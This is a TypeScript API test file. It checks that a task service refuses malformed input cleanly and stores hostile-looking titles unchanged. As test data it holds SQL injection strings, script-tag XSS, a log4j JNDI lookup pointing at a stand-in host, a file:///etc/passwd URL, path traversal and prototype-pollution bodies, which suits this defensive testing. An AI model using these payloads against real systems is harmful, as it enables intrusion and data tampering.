import request from 'supertest';
import { type ApiUnderTest, Suite } from './support/suite.js';

/**
 * Bad input gets a clear 4xx and writes nothing; the process keeps serving.
 *
 * A catalogue of bad requests, each sent through HTTP to the real API on the real Postgres. Every
 * row checks the status and problem code it names, that the answer is a well-formed RFC 9457
 * problem carrying the request id, that nothing internal leaks, and that no row was written to
 * tasks, outbox or idempotency_keys. A second, small table holds inputs that look hostile but
 * are valid, and must be stored exactly as sent.
 */

type Method = 'get' | 'post' | 'put' | 'patch' | 'delete';

interface BadRequestRow {
  name: string;
  method: Method;
  path: string;
  headers?: Record<string, string>;
  /** A JSON value, sent as JSON.stringify(json). */
  json?: unknown;
  /** The exact body text. */
  raw?: string;
  /** Defaults to application/json when there is a body; null sends none. */
  contentType?: string | null;
  status: number;
  code: string;
  /** For validation problems: `errors[].field` names that must all be present. */
  fields?: string[];
  /** Anything else the row's name promises. */
  also?: (res: request.Response) => void;
}

const TASKS = '/api/v1/tasks';
const SOME_UUID = '7d444840-9dc0-11d1-b245-5ffdce74fad2';
const KNOWN_TYPES = ['fail', 'http.request', 'noop', 'sleep'];

/** Stack frames, source or build paths, SQL and ORM names: none may reach a client. */
const LEAK = /at \w+ \(|\.ts:|\.js:|SELECT|INSERT|QueryFailedError|TypeORM|node_modules/;

const base64url = (text: string) => Buffer.from(text).toString('base64url');

/** `{"a":{"a":…{}…}}`, `depth` levels deep. */
function nested(depth: number): Record<string, unknown> {
  let value: Record<string, unknown> = {};
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

const sleepTask = (ms: unknown) => ({ title: 'nap', type: 'sleep', payload: { ms } });

const badRequests: BadRequestRow[] = [
  // --- POST /tasks: title ---
  { name: 'title missing', method: 'post', path: TASKS, json: { description: 'no title' }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
  { name: 'title empty', method: 'post', path: TASKS, json: { title: '' }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
  {
    name: 'title only spaces (empty after trimming)',
    method: 'post',
    path: TASKS,
    json: { title: '     ' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['title'],
  },
  {
    name: 'title only tabs and newlines (empty after trimming)',
    method: 'post',
    path: TASKS,
    json: { title: '\t\n \r\n' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['title'],
  },
  { name: 'title of 201 characters', method: 'post', path: TASKS, json: { title: 'x'.repeat(201) }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
  { name: 'title a number', method: 'post', path: TASKS, json: { title: 42 }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
  { name: 'title an array', method: 'post', path: TASKS, json: { title: ['a', 'b'] }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
  { name: 'title an object', method: 'post', path: TASKS, json: { title: { text: 'a' } }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
  { name: 'title null', method: 'post', path: TASKS, json: { title: null }, status: 400, code: 'VALIDATION_FAILED', fields: ['title'] },
  {
    // Postgres cannot store U+0000 in text: the API must refuse it, not fail on the INSERT.
    name: 'title containing a NUL character',
    method: 'post',
    path: TASKS,
    json: { title: 'before\u0000after' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['title'],
  },
  {
    // 150 × "❤️" (U+2764 U+FE0F) is 150 by class-validator's count but 300 characters to
    // Postgres' varchar(200): whichever count wins, the answer is a 4xx, never a failed INSERT.
    name: 'title of 150 emoji with variation selectors (300 code points)',
    method: 'post',
    path: TASKS,
    json: { title: '\u2764\uFE0F'.repeat(150) },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['title'],
  },

  {
    // A lone UTF-16 surrogate is valid in a JSON string but has no UTF-8 form: refuse it, do not fail on the INSERT.
    name: 'title containing a lone surrogate',
    method: 'post',
    path: TASKS,
    raw: '{"title":"bad \\ud800 half"}',
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['title'],
  },

  // --- description ---
  {
    name: 'description a number',
    method: 'post',
    path: TASKS,
    json: { title: 't', description: 5 },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['description'],
  },
  {
    name: 'description of 5,001 characters',
    method: 'post',
    path: TASKS,
    json: { title: 't', description: 'd'.repeat(5001) },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['description'],
  },

  // --- priority ---
  {
    name: 'priority lowercase',
    method: 'post',
    path: TASKS,
    json: { title: 't', priority: 'high' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['priority'],
  },
  {
    name: 'priority unknown (URGENT)',
    method: 'post',
    path: TASKS,
    json: { title: 't', priority: 'URGENT' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['priority'],
  },
  { name: 'priority a number', method: 'post', path: TASKS, json: { title: 't', priority: 2 }, status: 400, code: 'VALIDATION_FAILED', fields: ['priority'] },

  // --- maxAttempts ---
  { name: 'maxAttempts 0', method: 'post', path: TASKS, json: { title: 't', maxAttempts: 0 }, status: 400, code: 'VALIDATION_FAILED', fields: ['maxAttempts'] },
  {
    name: 'maxAttempts 21',
    method: 'post',
    path: TASKS,
    json: { title: 't', maxAttempts: 21 },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['maxAttempts'],
  },
  {
    name: 'maxAttempts 1.5',
    method: 'post',
    path: TASKS,
    json: { title: 't', maxAttempts: 1.5 },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['maxAttempts'],
  },
  {
    name: 'maxAttempts the string "3"',
    method: 'post',
    path: TASKS,
    json: { title: 't', maxAttempts: '3' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['maxAttempts'],
  },
  {
    name: 'maxAttempts 1e308',
    method: 'post',
    path: TASKS,
    raw: '{"title":"t","maxAttempts":1e308}',
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['maxAttempts'],
  },

  // --- payload ---
  { name: 'payload an array', method: 'post', path: TASKS, json: { title: 't', payload: [1, 2] }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload'] },
  {
    name: 'payload a string',
    method: 'post',
    path: TASKS,
    json: { title: 't', payload: '{"ms":1}' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload'],
  },
  { name: 'payload null', method: 'post', path: TASKS, json: { title: 't', payload: null }, status: 400, code: 'VALIDATION_FAILED', fields: ['payload'] },
  {
    // 70 KiB of payload: over the 64 KiB payload limit, far under the 1 MiB body limit.
    name: 'payload of 70 KiB (over 64 KiB) names payload',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'http.request', payload: { url: 'http://example.test/', method: 'POST', body: 'p'.repeat(70 * 1024) } },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload'],
  },
  {
    name: 'noop payload of 70 KiB names payload',
    method: 'post',
    path: TASKS,
    json: { title: 't', payload: { blob: 'p'.repeat(70 * 1024) } },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload'],
  },
  {
    // Postgres' jsonb refuses \u0000 in strings: the API must refuse it, not fail on the INSERT.
    name: 'payload string containing a NUL character',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'http.request', payload: { url: 'http://example.test/', method: 'POST', body: 'a\u0000b' } },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.body'],
  },

  // --- runAt ---
  { name: 'runAt not a date', method: 'post', path: TASKS, json: { title: 't', runAt: 'tomorrow' }, status: 400, code: 'VALIDATION_FAILED', fields: ['runAt'] },
  {
    name: 'runAt an impossible date (30 February)',
    method: 'post',
    path: TASKS,
    json: { title: 't', runAt: '2027-02-30T10:00:00Z' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['runAt'],
  },
  {
    name: 'runAt a number (epoch millis)',
    method: 'post',
    path: TASKS,
    json: { title: 't', runAt: 1_800_000_000_000 },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['runAt'],
  },

  // --- type ---
  { name: 'type with uppercase', method: 'post', path: TASKS, json: { title: 't', type: 'Noop' }, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
  { name: 'type with spaces', method: 'post', path: TASKS, json: { title: 't', type: 'my type' }, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
  { name: 'type a number', method: 'post', path: TASKS, json: { title: 't', type: 7 }, status: 400, code: 'VALIDATION_FAILED', fields: ['type'] },
  {
    name: 'type with a SQL fragment',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: "noop'; DROP TABLE tasks;--" },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['type'],
  },
  {
    name: 'type with a script fragment',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: '<script>alert(1)</script>' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['type'],
  },
  {
    name: 'type unknown lists the known types',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'email.send' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['type'],
    also: (res) => {
      const message: string = res.body.errors.find((e: { field: string }) => e.field === 'type').message;
      for (const known of KNOWN_TYPES) expect(message).toContain(known);
    },
  },

  // --- payloads of known types ---
  { name: 'sleep payload ms -1', method: 'post', path: TASKS, json: sleepTask(-1), status: 400, code: 'VALIDATION_FAILED', fields: ['payload.ms'] },
  {
    name: 'sleep payload ms 600001 (over 10 minutes)',
    method: 'post',
    path: TASKS,
    json: sleepTask(600_001),
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.ms'],
  },
  {
    name: 'sleep payload without ms',
    method: 'post',
    path: TASKS,
    json: { title: 'nap', type: 'sleep', payload: {} },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.ms'],
  },
  {
    name: 'sleep without any payload',
    method: 'post',
    path: TASKS,
    json: { title: 'nap', type: 'sleep' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.ms'],
  },
  { name: 'sleep payload ms a string', method: 'post', path: TASKS, json: sleepTask('100'), status: 400, code: 'VALIDATION_FAILED', fields: ['payload.ms'] },
  {
    name: 'http.request payload with an ftp url',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'http.request', payload: { url: 'ftp://example.test/file', method: 'GET' } },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.url'],
  },
  {
    name: 'http.request payload with a file: url',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'http.request', payload: { url: 'file:///etc/passwd', method: 'GET' } },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.url'],
  },
  {
    name: 'http.request payload with a javascript: url',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'http.request', payload: { url: 'javascript:alert(1)', method: 'GET' } },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.url'],
  },
  {
    name: 'http.request payload empty names url and method',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'http.request', payload: {} },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.url', 'payload.method'],
  },
  {
    name: 'http.request payload with header values that are not strings',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'http.request', payload: { url: 'http://example.test/', method: 'GET', headers: { 'x-n': 1 } } },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.headers'],
  },
  {
    name: 'fail payload times "x"',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'fail', payload: { times: 'x' } },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.times'],
  },

  // --- nested junk and unknown fields ---
  {
    name: 'noop payload nested 50 levels deep (noop takes no fields)',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'noop', payload: nested(50) },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload'],
  },
  {
    name: 'noop payload nested 10,000 levels deep (noop takes no fields)',
    method: 'post',
    path: TASKS,
    raw: `{"title":"t","type":"noop","payload":${'{"a":'.repeat(10_000)}{}${'}'.repeat(10_000)}}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload'],
  },
  {
    name: 'unknown top-level field',
    method: 'post',
    path: TASKS,
    json: { title: 't', owner: 'mallory' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['owner'],
  },
  {
    name: 'client-chosen id refused',
    method: 'post',
    path: TASKS,
    json: { title: 't', id: SOME_UUID },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['id'],
  },
  {
    name: 'client-chosen status refused',
    method: 'post',
    path: TASKS,
    json: { title: 't', status: 'COMPLETED' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['status'],
  },
  {
    // Fastify's JSON parser refuses __proto__ keys outright (prototype poisoning): the body is refused as malformed.
    name: '__proto__ key at the top level',
    method: 'post',
    path: TASKS,
    raw: '{"title":"t","__proto__":{"isAdmin":true}}',
    status: 400,
    code: 'MALFORMED_BODY',
  },
  {
    name: '__proto__ key inside the payload',
    method: 'post',
    path: TASKS,
    raw: '{"title":"t","payload":{"__proto__":{"x":1}}}',
    status: 400,
    code: 'MALFORMED_BODY',
  },
  {
    // constructor.prototype is refused by the parser the same way.
    name: 'constructor.prototype key at the top level',
    method: 'post',
    path: TASKS,
    raw: '{"title":"t","constructor":{"prototype":{"isAdmin":true}}}',
    status: 400,
    code: 'MALFORMED_BODY',
  },
  {
    name: 'constructor key at the top level (unknown field)',
    method: 'post',
    path: TASKS,
    raw: '{"title":"t","constructor":"x"}',
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['constructor'],
  },
  {
    name: 'constructor key inside a noop payload',
    method: 'post',
    path: TASKS,
    raw: '{"title":"t","payload":{"constructor":"x"}}',
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['payload.constructor'],
  },
  {
    // JSON.parse keeps the last of duplicate keys, so this is {"title": ""}: refused for its empty title.
    // (The reverse order is valid and stores the last title: see the valid table.)
    name: 'duplicate title keys, the last one empty',
    method: 'post',
    path: TASKS,
    raw: '{"title":"a","title":""}',
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['title'],
  },

  // --- the body itself ---
  { name: 'broken JSON', method: 'post', path: TASKS, raw: '{"title":', status: 400, code: 'MALFORMED_BODY' },
  { name: 'JSON with a trailing comma', method: 'post', path: TASKS, raw: '{"title":"t",}', status: 400, code: 'MALFORMED_BODY' },
  // documents/api.md: MALFORMED_BODY when "the body is not JSON, or empty".
  { name: 'empty body with content-type application/json', method: 'post', path: TASKS, raw: '', status: 400, code: 'MALFORMED_BODY' },
  // No body and no content type reads as an empty task: refused for its missing title. JSON that is
  // not an object is parsed, then refused by validation the same way (a 400 either way).
  { name: 'no body at all', method: 'post', path: TASKS, contentType: null, status: 400, code: 'VALIDATION_FAILED', fields: ['(root)'] },
  { name: 'JSON array body', method: 'post', path: TASKS, raw: '[{"title":"t"}]', status: 400, code: 'VALIDATION_FAILED', fields: ['(root)'] },
  { name: 'JSON string body', method: 'post', path: TASKS, raw: '"make a task"', status: 400, code: 'VALIDATION_FAILED', fields: ['(root)'] },
  { name: 'JSON null body', method: 'post', path: TASKS, raw: 'null', status: 400, code: 'VALIDATION_FAILED', fields: ['(root)'] },
  { name: 'JSON number body', method: 'post', path: TASKS, raw: '42', status: 400, code: 'VALIDATION_FAILED', fields: ['(root)'] },
  {
    name: 'body over 1 MiB',
    method: 'post',
    path: TASKS,
    json: { title: 't', type: 'http.request', payload: { url: 'http://example.test/', method: 'POST', body: 'b'.repeat(1024 * 1024 + 1) } },
    status: 413,
    code: 'PAYLOAD_TOO_LARGE',
  },

  // --- content types ---
  {
    name: 'content-type text/plain',
    method: 'post',
    path: TASKS,
    raw: '{"title":"t"}',
    contentType: 'text/plain',
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
  },
  {
    name: 'content-type application/x-www-form-urlencoded',
    method: 'post',
    path: TASKS,
    raw: 'title=t&priority=HIGH',
    contentType: 'application/x-www-form-urlencoded',
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
  },
  {
    name: 'content-type application/xml',
    method: 'post',
    path: TASKS,
    raw: '<task><title>t</title></task>',
    contentType: 'application/xml',
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
  },
  {
    name: 'content-type application/vnd.api+json (no parser)',
    method: 'post',
    path: TASKS,
    raw: '{"title":"t"}',
    contentType: 'application/vnd.api+json',
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
  },
  { name: 'no content type with a body', method: 'post', path: TASKS, raw: '{"title":"t"}', contentType: null, status: 415, code: 'UNSUPPORTED_MEDIA_TYPE' },
  {
    name: 'batch with content-type text/plain',
    method: 'post',
    path: `${TASKS}/batch`,
    raw: '{"tasks":[{"title":"t"}]}',
    contentType: 'text/plain',
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
  },

  // --- Idempotency-Key ---
  {
    name: 'Idempotency-Key of 256 characters',
    method: 'post',
    path: TASKS,
    headers: { 'Idempotency-Key': 'k'.repeat(256) },
    json: { title: 't' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['Idempotency-Key'],
  },
  {
    name: 'Idempotency-Key containing a space',
    method: 'post',
    path: TASKS,
    headers: { 'Idempotency-Key': 'order 42' },
    json: { title: 't' },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['Idempotency-Key'],
  },
  {
    name: 'Idempotency-Key containing a space, on a batch',
    method: 'post',
    path: `${TASKS}/batch`,
    headers: { 'Idempotency-Key': 'batch 42' },
    json: { tasks: [{ title: 't' }] },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['Idempotency-Key'],
  },

  // --- path ids ---
  { name: 'GET /tasks/123 (not a UUID)', method: 'get', path: `${TASKS}/123`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
  { name: 'GET /tasks/..%2Fetc (not a UUID)', method: 'get', path: `${TASKS}/..%2Fetc`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
  {
    name: 'GET /tasks/{UUID with a trailing character}',
    method: 'get',
    path: `${TASKS}/${SOME_UUID}x`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['id'],
  },
  {
    name: 'GET /tasks/{url-encoded SQL fragment}',
    method: 'get',
    path: `${TASKS}/${encodeURIComponent("1' OR '1'='1")}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['id'],
  },
  { name: 'GET /tasks/123/status (not a UUID)', method: 'get', path: `${TASKS}/123/status`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
  { name: 'GET /tasks/..%2Fetc/status (not a UUID)', method: 'get', path: `${TASKS}/..%2Fetc/status`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
  { name: 'DELETE /tasks/123 (not a UUID)', method: 'delete', path: `${TASKS}/123`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
  {
    name: 'DELETE /tasks/{url-encoded SQL fragment}',
    method: 'delete',
    path: `${TASKS}/${encodeURIComponent("x'; DELETE FROM tasks; --")}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['id'],
  },
  { name: 'POST /tasks/123/retry (not a UUID)', method: 'post', path: `${TASKS}/123/retry`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },
  {
    name: 'POST /tasks/{UUID with a trailing character}/retry',
    method: 'post',
    path: `${TASKS}/${SOME_UUID}0/retry`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['id'],
  },
  { name: 'GET /tasks/123/events (not a UUID)', method: 'get', path: `${TASKS}/123/events`, status: 400, code: 'VALIDATION_FAILED', fields: ['id'] },

  // --- GET /tasks filters ---
  {
    name: 'list with a garbage cursor',
    method: 'get',
    path: `${TASKS}?cursor=${encodeURIComponent('!!garbage!!')}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['cursor'],
  },
  {
    name: 'list with a cursor that is base64 of garbage',
    method: 'get',
    path: `${TASKS}?cursor=${base64url('garbage{')}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['cursor'],
  },
  {
    name: 'list with a cursor that is base64 of ["x","y"]',
    method: 'get',
    path: `${TASKS}?cursor=${base64url('["x","y"]')}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['cursor'],
  },
  {
    name: 'list with a cursor of 300 characters',
    method: 'get',
    path: `${TASKS}?cursor=${'A'.repeat(300)}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['cursor'],
  },
  { name: 'list with limit 0', method: 'get', path: `${TASKS}?limit=0`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
  { name: 'list with limit 101', method: 'get', path: `${TASKS}?limit=101`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
  { name: 'list with limit -1', method: 'get', path: `${TASKS}?limit=-1`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
  { name: 'list with limit abc', method: 'get', path: `${TASKS}?limit=abc`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
  { name: 'list with limit 1e2', method: 'get', path: `${TASKS}?limit=1e2`, status: 400, code: 'VALIDATION_FAILED', fields: ['limit'] },
  { name: 'list with status DONE', method: 'get', path: `${TASKS}?status=DONE`, status: 400, code: 'VALIDATION_FAILED', fields: ['status'] },
  {
    name: 'list with status NEW,DONE (one bad in a list)',
    method: 'get',
    path: `${TASKS}?status=NEW,DONE`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['status'],
  },
  {
    name: 'list with status given twice',
    method: 'get',
    path: `${TASKS}?status=NEW&status=FAILED`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['status'],
  },
  { name: 'list with priority URGENT', method: 'get', path: `${TASKS}?priority=URGENT`, status: 400, code: 'VALIDATION_FAILED', fields: ['priority'] },
  {
    name: 'list with type "Bad Type"',
    method: 'get',
    path: `${TASKS}?type=${encodeURIComponent('Bad Type')}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['type'],
  },
  {
    name: 'list with a SQL fragment as type',
    method: 'get',
    path: `${TASKS}?type=${encodeURIComponent("noop' OR '1'='1")}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['type'],
  },
  {
    name: 'list with a SQL fragment as status',
    method: 'get',
    path: `${TASKS}?status=${encodeURIComponent("NEW'); DROP TABLE tasks; --")}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['status'],
  },
  {
    name: 'list with a script fragment as priority',
    method: 'get',
    path: `${TASKS}?priority=${encodeURIComponent('<script>alert(1)</script>')}`,
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['priority'],
  },
  { name: 'list with an unknown query parameter', method: 'get', path: `${TASKS}?owner=mallory`, status: 400, code: 'VALIDATION_FAILED', fields: ['owner'] },

  // --- POST /tasks/batch ---
  { name: 'batch with tasks []', method: 'post', path: `${TASKS}/batch`, json: { tasks: [] }, status: 400, code: 'VALIDATION_FAILED', fields: ['tasks'] },
  { name: 'batch with tasks "x"', method: 'post', path: `${TASKS}/batch`, json: { tasks: 'x' }, status: 400, code: 'VALIDATION_FAILED', fields: ['tasks'] },
  { name: 'batch with {}', method: 'post', path: `${TASKS}/batch`, json: {}, status: 400, code: 'VALIDATION_FAILED', fields: ['tasks'] },
  {
    name: 'batch of 1,001 tasks',
    method: 'post',
    path: `${TASKS}/batch`,
    json: { tasks: Array.from({ length: 1001 }, (_, i) => ({ title: `t${i}` })) },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['tasks'],
  },
  {
    name: 'batch with items that are not objects',
    method: 'post',
    path: `${TASKS}/batch`,
    json: { tasks: [{ title: 'ok' }, 1, 'x', null] },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['tasks[1]', 'tasks[2]', 'tasks[3]'],
  },
  {
    name: 'batch with bad payloads at indexes 0 and 2 names tasks[0].payload.ms and tasks[2].type',
    method: 'post',
    path: `${TASKS}/batch`,
    json: { tasks: [sleepTask(-1), { title: 'ok' }, { title: 't', type: 'email.send' }, { title: 'ok too' }] },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['tasks[0].payload.ms', 'tasks[2].type'],
  },
  {
    // The 400 of a batch names the index and field of each bad item, whichever check finds it.
    name: 'batch with bad items at indexes 1, 3 and 4 names tasks[1].title, tasks[3].payload.ms and tasks[4].priority',
    method: 'post',
    path: `${TASKS}/batch`,
    json: { tasks: [{ title: 'ok' }, { title: '' }, { title: 'ok' }, sleepTask(-1), { title: 't', priority: 'URGENT' }] },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['tasks[1].title', 'tasks[3].payload.ms', 'tasks[4].priority'],
  },
  {
    name: 'batch with an unknown field in item 1',
    method: 'post',
    path: `${TASKS}/batch`,
    json: { tasks: [{ title: 'ok' }, { title: 'ok', owner: 'mallory' }] },
    status: 400,
    code: 'VALIDATION_FAILED',
    fields: ['tasks[1].owner'],
  },
  { name: 'batch with broken JSON', method: 'post', path: `${TASKS}/batch`, raw: '{"tasks":[{"title":"t"}', status: 400, code: 'MALFORMED_BODY' },

  // --- routes and methods ---
  { name: 'unknown route GET /api/v1/nothing-here', method: 'get', path: '/api/v1/nothing-here', status: 404, code: 'NOT_FOUND' },
  { name: 'unknown route under tasks GET /tasks/{id}/nothing', method: 'get', path: `${TASKS}/${SOME_UUID}/nothing`, status: 404, code: 'NOT_FOUND' },
  { name: 'unknown API version GET /api/v2/tasks', method: 'get', path: '/api/v2/tasks', status: 404, code: 'NOT_FOUND' },
  {
    name: 'PUT /api/v1/tasks is 405 with Allow: GET, POST',
    method: 'put',
    path: TASKS,
    json: { title: 't' },
    status: 405,
    code: 'METHOD_NOT_ALLOWED',
    also: (res) => expect(allowOf(res)).toEqual(['GET', 'POST']),
  },
  {
    name: 'DELETE /api/v1/tasks is 405 with Allow: GET, POST',
    method: 'delete',
    path: TASKS,
    status: 405,
    code: 'METHOD_NOT_ALLOWED',
    also: (res) => expect(allowOf(res)).toEqual(['GET', 'POST']),
  },
  {
    name: 'PATCH /api/v1/tasks/{id} is 405 with Allow: DELETE, GET',
    method: 'patch',
    path: `${TASKS}/${SOME_UUID}`,
    json: { title: 't' },
    status: 405,
    code: 'METHOD_NOT_ALLOWED',
    also: (res) => expect(allowOf(res)).toEqual(['DELETE', 'GET']),
  },
];

interface NastyButValidRow {
  name: string;
  body: Record<string, unknown> | string;
  /** The title that must be stored, byte for byte. */
  title: string;
  description?: string;
}

const nastyButValid: NastyButValidRow[] = [
  { name: 'title with a SQL injection', body: { title: "'; DROP TABLE tasks; --" }, title: "'; DROP TABLE tasks; --" },
  { name: 'title with a classic quote-and-comment', body: { title: "Robert'); DROP TABLE students;--" }, title: "Robert'); DROP TABLE students;--" },
  { name: 'title with a script tag', body: { title: '<script>alert("x")</script>' }, title: '<script>alert("x")</script>' },
  {
    name: 'title with a template and a log4j lookup',
    body: { title: '${jndi:ldap://evil.test/a} {{7*7}} %s%n' },
    title: '${jndi:ldap://evil.test/a} {{7*7}} %s%n',
  },
  { name: 'title with backslashes and JSON-looking text', body: { title: '\\"},{"status":"COMPLETED' }, title: '\\"},{"status":"COMPLETED' },
  { name: 'title of 200 emoji (astral characters)', body: { title: '😀'.repeat(200) }, title: '😀'.repeat(200) },
  { name: 'title with right-to-left and zero-width characters', body: { title: 'a\u202Eb\u200Bc' }, title: 'a\u202Eb\u200Bc' },
  {
    name: 'description with SQL, title with a comment terminator',
    body: { title: 'x */ --', description: "' OR 1=1; UPDATE tasks SET status='COMPLETED' --" },
    title: 'x */ --',
    description: "' OR 1=1; UPDATE tasks SET status='COMPLETED' --",
  },
  {
    // Duplicate keys: JSON.parse keeps the last one, so the task is stored with "second", and
    // the answer and the row agree (the reverse order is a 400: see the bad table).
    name: 'duplicate title keys, the last one kept',
    body: '{"title":"first","title":"second"}',
    title: 'second',
  },
];

function allowOf(res: request.Response): string[] {
  return String(res.headers.allow ?? '')
    .split(',')
    .map((m) => m.trim())
    .filter((m) => m !== '')
    .sort();
}

describe('bad input: a clear 4xx, nothing written, the process keeps serving', () => {
  let suite: Suite;
  let api: ApiUnderTest;

  const counts = async () => {
    const { rows } = await suite.sql.query(
      'SELECT (SELECT count(*) FROM tasks)::int AS tasks, (SELECT count(*) FROM outbox)::int AS outbox, (SELECT count(*) FROM idempotency_keys)::int AS keys',
    );
    return rows[0] as { tasks: number; outbox: number; keys: number };
  };

  const send = (row: Pick<BadRequestRow, 'method' | 'path' | 'headers' | 'json' | 'raw' | 'contentType'>, requestId: string) => {
    let req = request(api.getHttpServer())[row.method](row.path).set('X-Request-ID', requestId);
    for (const [name, value] of Object.entries(row.headers ?? {})) req = req.set(name, value);
    const body = row.raw ?? (row.json === undefined ? undefined : JSON.stringify(row.json));
    const contentType = row.contentType === undefined ? (body === undefined ? null : 'application/json') : row.contentType;
    if (body === undefined) return contentType === null ? req : req.set('Content-Type', contentType);
    // superagent sends a string as is once a content type is set (it would JSON-encode a Buffer),
    // and a Buffer as is without adding a content type.
    return contentType === null ? req.send(Buffer.from(body, 'utf8')) : req.set('Content-Type', contentType).send(body);
  };

  beforeAll(async () => {
    suite = await Suite.create('bad_input');
    api = await suite.startApi();
  });

  afterAll(async () => {
    await suite.teardown();
  });

  it('has a catalogue of at least 40 bad inputs', () => {
    expect(badRequests.length).toBeGreaterThanOrEqual(40);
    expect(new Set(badRequests.map((r) => r.name)).size).toBe(badRequests.length);
  });

  describe('refused with a clean problem, nothing written', () => {
    it.each(badRequests.map((row, index) => ({ ...row, index })))('$name → $status $code', async (row) => {
      const requestId = `bad-input-${row.index}`;
      const before = await counts();

      const res = await send(row, requestId);
      const after = await counts();

      // Status, code and "nothing written" in one comparison, so a failure shows all three.
      expect({ status: res.status, code: res.body?.code, after }).toEqual({ status: row.status, code: row.code, after: before });
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
